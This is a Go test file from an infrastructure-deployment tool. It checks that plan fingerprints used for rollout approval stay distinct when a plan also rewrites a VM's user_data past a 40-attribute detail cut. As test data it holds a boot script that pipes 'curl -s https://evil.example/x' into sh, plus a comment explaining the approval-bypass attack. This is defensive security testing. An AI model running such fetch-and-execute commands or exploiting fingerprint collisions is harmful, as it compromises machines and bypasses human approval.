package terraform

import (
	"fmt"
	"testing"

	tfjson "github.com/hashicorp/terraform-json"
	"github.com/stretchr/testify/assert"

	"github.com/slipway-dev/slipway/internal/contract"
	"github.com/slipway-dev/slipway/internal/planprint"
)

// The attack of security.md case 46 (a fingerprint approved for one plan covering another). A rollout approves
// once per plan shape: "(resource address without instance keys, action, names of the top-level
// attributes it changes)" (docs/fleet.md). The plan's attribute detail is cut at 40 leaf paths per
// resource, sorted, and the shape is taken from what is left. So a plan that changes 40 tags of
// aws_instance.main and one that changes the same 40 tags AND user_data (what the VM runs at
// boot; "u" sorts after "t") are one shape: carol approves the first instance's "update
// aws_instance.main (1 attribute)" and every deploy that also rewrites user_data is approved on her
// behalf. Secure behaviour: two plans that change different top-level attributes never share a
// fingerprint (the names are collected before the detail is cut, or a cut plan gets a shape of
// its own that no other plan shares).
func TestFingerprintKeepsTheNamesPastTheDetailCut(t *testing.T) {
	tags := func(extra map[string]any) *tfjson.Plan {
		before, after := map[string]any{"tags": map[string]any{}}, map[string]any{"tags": map[string]any{}}
		for i := 0; i < maxAttributes; i++ {
			k := fmt.Sprintf("t%02d", i)
			before["tags"].(map[string]any)[k] = "old"
			after["tags"].(map[string]any)[k] = "new"
		}
		before["user_data"], after["user_data"] = "#!/bin/sh\necho hi", "#!/bin/sh\necho hi"
		for k, v := range extra {
			after[k] = v
		}
		return &tfjson.Plan{ResourceChanges: []*tfjson.ResourceChange{{
			Address: "aws_instance.main", Type: "aws_instance", Name: "main",
			Change: &tfjson.Change{Actions: tfjson.Actions{tfjson.ActionUpdate}, Before: before, After: after},
		}}}
	}
	shape := func(p *tfjson.Plan) contract.PlanFingerprint {
		s := summarize(p)
		var cs contract.PlanSummary
		for _, rc := range s.Resources {
			c := contract.ResourceChange{Address: rc.Address, Type: rc.Type, Name: rc.Name, Actions: rc.Actions}
			for _, a := range rc.Attributes {
				c.Attributes = append(c.Attributes, contract.AttributeChange{Path: a.Path, Sensitive: a.Sensitive})
			}
			cs.Resources = append(cs.Resources, c)
		}
		return planprint.Of(cs, nil)
	}
	benign := shape(tags(nil))
	evil := shape(tags(map[string]any{"user_data": "#!/bin/sh\ncurl -s https://evil.example/x | sh"}))
	t.Logf("benign: %s %s", benign.Hash, benign.Summary)
	t.Logf("evil:   %s %s", evil.Hash, evil.Summary)
	assert.NotEqual(t, benign.Hash, evil.Hash, "a plan that also rewrites user_data has the fingerprint of one that changes only tags")
}
